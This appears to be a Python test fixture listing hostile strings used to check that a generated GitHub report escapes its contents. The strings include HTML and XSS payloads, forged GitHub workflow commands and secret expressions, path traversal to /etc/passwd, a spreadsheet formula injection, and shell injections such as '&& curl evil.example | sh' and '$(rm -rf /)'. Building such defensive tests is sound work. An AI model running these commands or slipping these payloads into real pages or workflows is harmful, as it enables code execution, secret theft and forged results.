"""Strings with which a model or a task file could break out of the report that shows them.

Sources for what GitHub and its runner interpret: the GFM specification, and GitHub's documentation of autolinked
references, mentions, mathematical expressions, diagrams, workflow commands and environment files.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager


@contextmanager
def naming(text: str) -> Iterator[None]:
    """Add the hostile text to the traceback of a failure."""
    try:
        yield
    except Exception as error:
        error.add_note(f"hostile text: {ascii(text)[:200]}")
        raise


HOSTILE = [
    "@octocat", "@github/security please look", "hello @octocat!", "#1", "GH-26", "octo-org/octo-repo#100",
    "jlord@a5c3785ed8d6a35868bc169f07e40e889087fd2e", "a5c3785ed8d6a35868bc169f07e40e889087fd2e",
    "https://evil.example/x", "http://evil.example", "www.evil.example", "evil.example", "ftp://evil.example/a",
    "mailto:a@evil.example", "user@evil.example", "<https://evil.example>", "<user@evil.example>",
    "[click](https://evil.example)", "[click][1]\n\n[1]: https://evil.example", "[1]: https://evil.example 'x'",
    "![](https://evil.example/track.png)", "![x][y]", "[![x](https://e.example/a.png)](https://e.example)",
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<a href='https://evil.example'>x</a>",
    "<svg/onload=alert(1)>", "<iframe src=//evil.example>", "</code><img src=x>", "</details></table><h1>PASS</h1>",
    "<!-- quantgate -->", "-->", "<![CDATA[x]]>", "<?php ?>", "&lt;img&gt;", "&#64;octocat", "&amp;", "&copy;",
    "a | b | c", "|", "\\|", "\\", "\\\\|", "| --- | --- |", "`", "``", "```\ncode\n```", "`a` | `b`", "~~~", "~~x~~",
    "**bold**", "__bold__", "*x*", "_x_", "# heading", "###### x", "x\n===", "x\n---", "---", "***", "> quote",
    "- item", "1. item", "- [ ] todo", "+ x", "    code", "\tcode", "line\nbreak", "line\r\nbreak", "two\n\nparagraphs",
    "\u2028separator", "x\x85y", "null\x00byte", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\u202egnp.exe", "\u2066x\u2069",
    "zero\u200bwidth", "\ufeffbom", "tag\U000e0041\U000e0042", "::error::pwned", "\n::error::pwned", "  ::set-env name=A::b",
    "::add-mask::x", "##[error]pwned", "x ##[group]y", ":::error::x", "a:::::error::x", "\r::stop-commands::x", "${{ secrets.X }}",
    "$(rm -rf /)", "{{ 7 * 7 }}", "{% raw %}", "$x^2$", "$$x$$", ":smile:", "\\(x\\)", "[^1]", "[^1]: note",
    "\ud800 lone surrogate", "e\u0301", "x" * 5000, "@" * 300, "|" * 300, "<" * 300, "", " ", "\n", "…",
    # mentions, references and autolinks
    "cc @octocat, @github/security-team", "(@octocat)", "\"@octocat\"", "@octocat\n@hubot", "\u200b@octocat", "a@octocat", "/@octocat",
    "Fixes #1", "closes octo-org/octo-repo#12", "resolves GH-7", "octocat#3", "#1,#2;#3", "gh-99",
    "github.com/octo-org/octo-repo/issues/1", "https://github.com/octo-org/octo-repo/commit/a5c3785", "https://gist.github.com/octocat/1",
    "GHSA-jfh8-c2jp-5v3q", "CVE-2021-44228", "JIRA-123", "octo-org/octo-repo@a5c3785", "deadbeef", "defaced effaced", "1234567", "DEADBEEFCAFE",
    "xmpp:a@evil.example", "HTTPS://EVIL.EXAMPLE", "https://evil.example).", "https://evil.example/?a=1&b=2", "www.evil.example/a_b_c",
    "//evil.example/x", "evil.example/x.png", "http://[::1]/", "https://xn--80ak6aa92e.com", "file:///etc/passwd", "ssh://git@evil.example",
    "[x](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](<https://evil.example> 'title')", "[x]: javascript:1",
    "[x][]", "[x]", "![x](//evil.example/a.gif 't')", "![](data:image/svg+xml;base64,AAAA)", "<https://evil.example?q=a b>", "<mailto:a@b.c>",
    # HTML of every block kind, and what closes ours
    "<pre>", "<textarea>", "<style>*{display:none}</style>", "<plaintext>", "<xmp>", "<noembed><img>", "<!DOCTYPE html>", "<!X >", "<!---->", "<!-->",
    "--!>", "<!-- quantgate:quantgate -->", "-->\n<!-- quantgate:nightly -->", "<!-- -- -->", "<? php", "]]>", "</code>", "</CODE >", "</code\n>",
    "</td></tr></table>", "</summary>", "</details>", "</sub></sub>", "<details open>", "<summary>x", "<br/><br/>", "<h1>PASS</h1>", "<b>x</b>",
    "<a name=x>", "<a href=//evil.example>", "<img src='//evil.example/a.png'>", "<picture><source srcset=//evil.example></picture>",
    "<video src=//evil.example/v.mp4>", "<audio autoplay>", "<object data=x>", "<embed src=x>", "<form action=//evil.example>", "<input type=checkbox>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet>", "<math><mtext></mtext></math>", "<svg><use href=x></svg>",
    "\" onmouseover=\"alert(1)", "' onload='alert(1)", "&#60;img&#62;", "&lt;script&gt;", "&#x3C;b&#x3E;", "&lt", "&#0;", "&#38;#64;octocat", "&NewLine;::error::x",
    # Markdown: tables, code, quotes, lists, GitHub's own
    "|--|", "| a |\n|---|\n| b |", "x |\n| y", "\\`", "`` ` ``", "`````", "` | `", "\\\\`", "a`b|c`d", "```mermaid\ngraph TD;A-->B\n```", "```geojson\n{}\n```",
    "```math\nx\n```", "$`x`$", "$$\n\\href{https://evil.example}{x}\n$$", "\\begin{align}", "> [!WARNING]\n> PASS", "> > >", "[^1]\n\n[^1]: x", ":tada: :+1:",
    "* * *", "_ _ _", "+++", "===", "1) x", "10. x", "- [x] done", "* [ ] todo", "~x~", "***x***", "__proto__", "\\*", "\\", "a  \nb", "a\\\nb",
    "\n\n\n", "\n# PASS", "\n\n| Task | p |\n|--|--|\n| x | 1 |", "\n***\n", "\n<details>\n\n", "#ffffff", "`#ffffff`",
    # workflow commands, environment files, expressions
    "::warning file=a.py,line=1::x", "::notice::x", "::debug::x", "::group::x", "::endgroup::", "::set-output name=verdict::PASS", "::save-state name=a::b",
    "::add-path::/tmp", "::echo::on", "::add-matcher::x.json", "::remove-matcher owner=x::", "::stop-commands::token\n::error::x", "::token::", "\t::error::x",
    "\x0b::error::x", "\x0c::error::x", "\x85::error::x", "\u2028::error::x", "\u2029::error::x", "%0A::error::x", "%0D%0A::set-output name=a::b", "x%25y", "%",
    "\x1b[1m::error::x", "\ufeff::error::x", "\u200b::error::x", "\u00a0::error::x", "::ERROR::x", ": :error::x", "::error ::x", "::::", "##[command]rm -rf /",
    "##[endgroup]", "##vso[task.setvariable variable=a]b", "###[error]x", "##[debug]", "EOF", "x\nEOF\nverdict=PASS", "verdict<<EOF\nPASS\nEOF",
    "ghadelimiter_00000000-0000-0000-0000-000000000000", "a=b\nverdict=PASS", "p-value<<x", "${{ github.token }}", "${{ toJSON(secrets) }}", "`whoami`",
    # control and invisible characters
    "\x00", "\x08\x08\x08PASS", "FAIL\rPASS", "\x9b31mred", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x1bP+q\x1b\\", "\x7f",
    "\u061cx", "\u200e\u200f", "\u202a\u202b\u202c\u202d", "\u2066\u2067\u2068\u2069", "\u00adx", "\u034fx", "\u115f\u1160\u3164\uffa0", "\u180e", "\u2060\u2061",
    "\ufff9x\ufffay\ufffb", "\U000e0001\U000e0061\U000e007f", "x\U000e0100\U000e01ef", "\ufdd0\ufffe\uffff", "\ue000\U000f0000", "\udc80", "\ud83d", "Z" + "\u0300" * 80,
    "\uff20octocat", "\uff1a\uff1aerror\uff1a\uff1ax", "\uff1cscript\uff1e", "\u2039img\u203a", "\u01c0 a \u01c0", "\u2223", "PΑSS", "👩‍👩‍👧‍👦 🏳️‍🌈", "ﷺ" * 50, "𝓕𝓪𝓲𝓵",
    # templates, terminals, spreadsheets
    "[bold red]x[/bold red]", "[link=https://evil.example]x[/link]", "[/]", "{0} {} {x}", "%s %(x)s %n", "{{ config }}", "{# x #}", "{%- endfor %}", "<%= 7*7 %>",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "; rm -rf /", "&& curl evil.example | sh", "$IFS", "`$(id)`", "../../etc/passwd", "\\\\evil.example\\x",
    "a" * 65_536, "<!--" * 20_000, "[" * 20_000, "> " * 5_000, "\n" * 5_000, "*a_" * 5_000, "\u0301" * 5_000, "::" * 5_000,
]  # fmt: skip
